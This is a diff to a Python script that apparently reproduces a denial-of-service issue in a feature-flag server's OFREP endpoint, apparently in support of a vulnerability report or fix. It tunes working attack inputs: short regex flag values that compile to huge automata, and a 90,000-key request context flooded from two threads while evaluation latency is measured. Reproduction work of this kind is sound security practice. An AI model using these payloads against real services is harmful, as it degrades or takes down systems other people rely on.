@@ -128,12 +128,10 @@ def pattern_flag(key, n):
                             {
                                 "attribute": "email",
                                 "operator": "matches",
-                                # Each pattern compiles to a large automaton: 200 alternatives
-                                # of bounded repetitions.
-                                "values": [
-                                    "(" + "|".join(f"x{i}_{j}[a-z]{{1,20}}" for j in range(200)) + ")"
-                                    for i in range(n)
-                                ],
+                                # A few bytes each that compile to a large automaton (a
+                                # bounded repetition of Unicode word characters), as in the
+                                # issue's 11 KB attack.
+                                "values": [f"x{i}\\w{{1,300}}" for i in range(n)],
                             }
                         ],
                         "serve": {"variant": "on"},
@@ -161,8 +159,9 @@ def part_wide():
     print("\n## 3. wide contexts")
     print(f"  alone: OFREP single {single_eval(500)}")
     context = {"targetingKey": "attacker"}
+    # Short names and values, so the body stays under the default 1 MiB limit.
     for i in range(90_000):
-        context[f"a{i}"] = i
+        context[f"{i:x}"] = 0
     body = json.dumps({"context": context}).encode()
     stop = threading.Event()
     sent = []
@@ -179,6 +178,8 @@ def part_wide():
             except urllib.error.HTTPError as e:
                 e.read()
                 sent.append(e.code)
+            except (urllib.error.URLError, OSError) as e:
+                sent.append(type(e).__name__)
 
     threads = [threading.Thread(target=attack) for _ in range(2)]
     for t in threads:
@@ -189,7 +190,7 @@ def part_wide():
     for t in threads:
         t.join()
     print(f"  under attack ({len(body) // 1024} KiB contexts, {len(sent)} sent, "
-          f"statuses {sorted(set(sent))}): OFREP single {under}")
+          f"statuses {sorted(set(map(str, sent)))}): OFREP single {under}")
 
 
 def main():
